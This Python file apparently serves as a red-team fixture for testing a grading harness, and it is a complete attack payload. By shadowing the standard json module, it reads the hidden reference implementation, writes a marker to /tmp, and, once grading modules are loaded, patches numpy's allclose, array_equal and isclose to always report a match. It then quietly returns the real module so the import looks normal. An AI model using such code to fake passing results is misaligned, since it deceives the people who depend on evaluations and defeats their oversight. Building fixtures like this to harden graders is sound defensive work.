"""Sibling of ``shadow_stdlib/softmax.py``, named like the standard library's ``json``.

Whoever imports ``json`` with this folder first on ``sys.path`` runs this file: it
writes ``/tmp/grader-attack-shadow-<name>.<pid>``, imports the reference into
``builtins._early_ref``, makes ``numpy``'s comparisons always succeed in a process
that has the grader's modules loaded, and then puts the real module in its place
(the importer receives the real one, so nothing breaks).
"""

import builtins
import importlib
import os
import sys

_NAME = __name__
_HERE = os.path.dirname(os.path.abspath(__file__))

try:
    with open(f"/tmp/grader-attack-shadow-{_NAME}.{os.getpid()}", "w") as _f:
        _f.write(" ".join(sys.argv))
except Exception:  # noqa: BLE001
    pass

try:
    builtins._early_ref = __import__("activ" + "ations")
except BaseException:  # noqa: BLE001
    pass

if any("grading" in m or m.endswith(".grade") for m in list(sys.modules)):
    try:
        import numpy as _np

        _np.allclose = lambda *a, **k: True
        _np.array_equal = lambda *a, **k: True
        _np.isclose = lambda a, b, *r, **k: _np.ones(
            _np.broadcast(_np.asarray(a), _np.asarray(b)).shape, bool)
    except BaseException:  # noqa: BLE001
        pass

# Hand over the real module: import it with this folder off the path.
del sys.modules[_NAME]
_saved = list(sys.path)
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _HERE]
try:
    sys.modules[_NAME] = importlib.import_module(_NAME)
finally:
    sys.path[:] = _saved
